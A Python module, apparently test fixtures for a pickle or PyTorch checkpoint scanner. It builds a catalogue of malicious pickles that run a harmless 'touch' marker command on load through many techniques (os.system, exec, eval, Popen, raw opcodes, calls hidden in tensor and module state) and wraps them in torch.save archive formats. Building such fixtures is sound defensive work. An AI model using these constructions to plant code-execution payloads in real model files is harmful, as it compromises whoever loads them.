"""Pickles that execute code when Python's ``pickle`` module reads them, and the archives around them."""

from __future__ import annotations

import builtins
import functools
import io
import os
import pickle
import struct
import subprocess
import zipfile
from pathlib import Path
from typing import Any

import torch


def archive(
    program: bytes,
    storages: dict[str, bytes] | None = None,
    compression: int = zipfile.ZIP_STORED,
    order: str = "little",
) -> bytes:
    """Return a file in the zip format of ``torch.save`` around any pickle."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as out:
        out.writestr("net/data.pkl", program)
        out.writestr("net/byteorder", order)
        for key, data in (storages or {}).items():
            out.writestr(f"net/data/{key}", data)
    return buffer.getvalue()


def old_file(program: bytes, keys: tuple[str, ...] = ("0",), data: bytes = struct.pack("<q4f", 4, 1, 2, 3, 4)) -> bytes:
    """Return a file in the format of ``torch.save`` before PyTorch 1.6 around any pickle."""
    start = [0x1950A86A20F9469CFC6C, 1001, {"protocol_version": 1001, "little_endian": True, "type_sizes": {}}]
    return b"".join(pickle.dumps(value, 2) for value in start) + program + pickle.dumps(list(keys), 2) + data


class Call:
    """An object that is pickled as a function call."""

    def __init__(self, function: Any, *arguments: Any) -> None:
        self.call = function, arguments

    def __reduce__(self) -> Any:
        return self.call


def text(value: str) -> bytes:
    """Return the opcode that pushes a string."""
    return b"X" + struct.pack("<I", len(value)) + value.encode()


FOUR_FLOATS = b"(" + text("storage") + b"ctorch\nFloatStorage\n" + text("0") + text("cpu") + b"K\x04tQ"
"""Opcodes that push a storage of four float32 values with key "0"."""


def bombs(marker: Path) -> dict[str, bytes]:
    """Return pickles that try to create a file at ``marker``, each with another technique, by name."""
    shell = f"touch {marker}"
    code = f"open({str(marker)!r}, 'w')"
    system = Call(os.system, shell)
    call = b"cos\nsystem\n(" + text(shell) + b"tR"
    module = b"csome\nNet\n)\x81"

    def tensor(size: bytes, hooks: bytes) -> bytes:
        return (
            b"ctorch._utils\n_rebuild_tensor_v2\n(" + FOUR_FLOATS + b"K\x00" + size + b"K\x01\x85\x89" + hooks + b"tR"
        )

    programs = {
        f"{name}, protocol {protocol}": pickle.dumps(value, protocol)
        for protocol in (2, 4)
        for name, value in {
            "system": system,
            "exec": Call(builtins.exec, code),
            "eval": Call(builtins.eval, code),
            "getattr": Call(builtins.getattr, system, "name"),
            "popen": Call(subprocess.Popen, ["touch", str(marker)]),
            "partial": Call(functools.partial, os.system, shell),
            "torch.load": Call(torch.load, str(marker)),
            "in a list": [1, [system]],
            "in a key": {("key", 1): 2, "a": {1: system}},
        }.items()
    }
    return programs | {
        "inst": b"(" + text(shell) + b"ios\nsystem\n.",
        "obj": b"(cos\nsystem\n" + text(shell) + b"o.",
        "ext": b"\x80\x02\x82\xf0(" + text(shell) + b"tR.",
        "call as a key": b"}" + call + b"K\x01s.",
        "call in the hooks of a tensor": tensor(b"K\x04\x85", call) + b".",
        "call in the size of a tensor": tensor(call, b"}") + b".",
        "call in the state of a module": module + b"}(" + text("_modules") + b"}" + text("a") + call + b"ub.",
        "call as a state": module + call + b"b.",
        "state of a function": b"cos\nsystem\n}" + text("a") + text(shell) + b"sb.",
        "state with slots": module + b"N}" + text("__class__") + b"cos\nsystem\ns\x86b.",
        "state twice": module + (b"}" + text("_modules") + b"}sb") * 2 + b".",
        "setstate": module + b"}" + text("__setstate__") + b"cos\nsystem\nsb(" + text(shell) + b"tb.",
        "made of a function": b"cos\nsystem\n(" + text(shell) + b"t\x81.",
        "made and left": b"csubprocess\nPopen\n)\x81.",
        "made with keywords": b"cos\nsystem\n(" + text(shell) + b"t}\x92.",
        "made of a dict": b"ccollections\nOrderedDict\n)\x81.",
        "called method": module + b"}" + text("_modules") + b"}sb(" + text(shell) + b"tR.",
        "storage of a function": b"(" + text("storage") + b"cos\nsystem\n" + text(shell) + text("cpu") + b"K\x04tQ.",
        "storage of a call": b"(" + text("storage") + call + text("0") + text("cpu") + b"K\x04tQ.",
        "storage with a view": b"("
        + text("storage")
        + b"ctorch\nFloatStorage\n"
        + text("0")
        + text("c")
        + b"K\x04"
        + call
        + b"tQ.",
        "package": b"(" + text("reduce_package") + b"cos\nsystem\ntQ.",
        "class with its source": b"("
        + text("module")
        + b"cos\nsystem\n"
        + text("a.py")
        + text(shell)
        + b"tQ("
        + text(shell)
        + b"tR.",
        "text reference": b"Pos.system\n.",
        "call of a call": b"cfunctools\npartial\n(cos\nsystem\n" + text(shell) + b"tR)R.",
        "dict of pairs": b"ccollections\nOrderedDict\n(" + call + b"tR.",
        "set": b"c__builtin__\nset\n(](" + call + b"etR.",
    }
